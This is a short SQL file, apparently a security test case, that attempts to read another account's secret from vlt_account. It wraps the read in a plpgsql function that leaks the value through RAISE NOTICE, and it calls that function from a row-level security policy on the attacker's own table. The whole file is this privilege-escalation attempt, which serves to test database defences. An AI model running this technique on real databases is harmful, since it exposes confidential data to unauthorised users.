-- Lets a policy of an own table call a function that reads.
-- wants: read
-- attack:
CREATE FUNCTION tell() RETURNS boolean LANGUAGE plpgsql AS $$BEGIN
  RAISE NOTICE '%', (SELECT secret FROM vlt_account WHERE id = 1); RETURN true; END$$;
ALTER TABLE mallory_own ENABLE ROW LEVEL SECURITY;
ALTER TABLE mallory_own FORCE ROW LEVEL SECURITY;
CREATE POLICY p ON mallory_own USING (tell());
SELECT * FROM mallory_own;
